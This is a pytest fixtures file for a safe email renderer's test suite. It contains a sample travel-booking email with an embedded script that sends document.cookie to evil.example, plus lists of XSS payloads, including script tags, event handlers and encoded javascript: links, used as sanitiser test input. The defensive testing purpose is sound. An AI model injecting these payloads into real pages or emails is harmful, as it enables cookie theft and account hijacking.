"""
Shared test fixtures for the safe email renderer test suite.
"""
import pytest

from safe_email.presentation.adapter import EmailViewAdapter, ViewState
from safe_email.presentation.clipboard import LoggingNotifier, MemoryClipboard


# ==========================================================================
# Email bodies
# ==========================================================================

@pytest.fixture
def booking_email_html():
    return (
        "<div>Hi team,</div>\n"
        "<p>Please find the confirmed itinerary for the <b>Dubai</b> group below.</p>\n"
        "<p>PNR: QXZTRA<br>EK #: 4R7K2P<br>Selling Price: $4,860.00 USD<br>"
        "Net Price: $4,120.50<br>Service Fee: $150 USD</p>\n"
        "<p><strong>Clean Profit: $589.50 USD</strong></p>\n"
        '<p>Check the fare rules at <a href="https://www.emirates.com/fares" '
        'onclick="steal()">Emirates fares</a>.</p>\n'
        '<img src="https://cdn.example-travel.com/banner-spring.jpg" alt="Spring deals" '
        'width="600" height="120">\n'
        "<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n"
        "<p>Best regards,</p>\n"
        "<div>Maria Lopez</div>\n"
        "<div>Senior Travel Expert</div>\n"
        "<div>+1 (305) 555-0142</div>\n"
        "<div>maria.lopez@example-travel.com</div>\n"
        "<div>1200 Brickell Avenue, Miami FL</div>\n"
        '<img src="https://cdn.example-travel.com/logo.png" alt="Example Travel" width="120">\n'
    )


@pytest.fixture
def long_email():
    """Build a 30-line plain-text email with a name-like line at *name_line*."""

    def _build(name_line: int, name: str = "Jordan Smith") -> str:
        lines = [f"Itinerary note number {i} for the group." for i in range(30)]
        lines[name_line] = name
        return "\n".join(lines)

    return _build


# ==========================================================================
# XSS payloads
# ==========================================================================

@pytest.fixture
def script_payloads():
    return [
        '<script>alert("XSS")</script>',
        "<SCRIPT>alert(1)</SCRIPT>",
        '<ScRiPt src="https://evil.example/x.js"></sCrIpT>',
        "<scr<script>ipt>alert(1)</script>",
        "<<script>script>alert(1)<</script>/script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<div><script>alert(1)</div>",
    ]


@pytest.fixture
def handler_payloads():
    return [
        '<img src=x onerror="alert(1)">',
        "<IMG SRC=x ONERROR=alert(1)>",
        '<div onmouseover="alert(1)">hover</div>',
        "<p onclick=alert(1)>text</p>",
        "<svg onload=alert(1)>",
        '<a href="#" onclick="alert(\'XSS\')">Click me</a>',
        '<body onload="alert(1)"><p>x</p></body>',
    ]


@pytest.fixture
def javascript_href_payloads():
    return [
        '<a href="javascript:alert(1)">Click</a>',
        '<a href="JaVaScRiPt:alert(1)">Click</a>',
        '<a href="&#106;avascript:alert(1)">Click</a>',
        '<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">Click</a>',
        '<a href="java&#x09;script:alert(1)">Click</a>',
        '<a href=" javascript:alert(1)">Click</a>',
        '<a href="vbscript:msgbox(1)">Click</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Click</a>',
    ]


# ==========================================================================
# Presentation
# ==========================================================================

@pytest.fixture
def clipboard():
    return MemoryClipboard()


@pytest.fixture
def notifier():
    return LoggingNotifier()


@pytest.fixture
def adapter(clipboard, notifier):
    return EmailViewAdapter(clipboard=clipboard, notifier=notifier, cache_size=16)


@pytest.fixture
def view_state():
    return ViewState()
